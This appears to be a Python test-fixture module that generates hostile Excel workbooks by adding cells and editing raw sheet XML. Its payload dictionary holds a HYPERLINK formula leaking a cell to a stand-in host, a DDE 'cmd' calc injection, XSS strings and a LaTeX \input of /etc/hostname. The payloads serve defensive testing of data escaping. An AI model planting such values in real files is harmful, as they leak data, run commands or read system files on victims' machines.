"""Hostile and odd workbooks, generated here (never committed as binaries): a stray cell at the last
address of a sheet, error cells and formulas saved without a value, raw XML edits openpyxl cannot make."""

from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

from openpyxl import load_workbook

# text that must stay data wherever it is shown or written
TEXTS = {
    "formula": '=HYPERLINK("http://example.invalid/?leak="&B3,"y")',
    "tab_formula": "\t=1+1",
    "plus_cmd": "+cmd|' /C calc'!A0",
    "at_sum": "@SUM(1+1)",
    "minus": "-2+3",
    "script": "<script>alert(1)</script>",
    "img": '<img src=x onerror="alert(1)">',
    "remote_md": "![x](http://example.invalid/x.png)",
    "latex_input": "Иванов \\input{/etc/hostname} Иван",
    "backslash": "C:\\Temp\\new",
    "catcode": "\\catcode`\\{=12",
    "control": "Иванов\x1bИван",
    "long": "Ж" * 10_000,
}


def with_cell(path: Path, sheet: str, ref: str, value) -> Path:
    """The workbook with one more cell (in a new sheet when `sheet` is not in the book)."""
    book = load_workbook(path)
    ws = book[sheet] if sheet in book.sheetnames else book.create_sheet(sheet)
    ws[ref] = value
    book.save(path)
    return path


def with_raw_cell(path: Path, sheet: str, ref: str, xml: str) -> Path:
    """Replace the XML of one existing cell of `sheet` by `xml` (an error cell, a formula without <v>)."""
    book = load_workbook(path, read_only=True)
    index = book.sheetnames.index(sheet) + 1
    book.close()
    member = f"xl/worksheets/sheet{index}.xml"
    tmp = path.with_suffix(".tmp.xlsx")
    shutil.copy(path, tmp)
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == member:
                text = data.decode("utf-8")
                text, n = re.subn(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', xml, text, count=1)
                assert n == 1, f"no cell {ref} in {sheet}"
                data = text.encode("utf-8")
            dst.writestr(info, data)
    tmp.unlink()
    return path
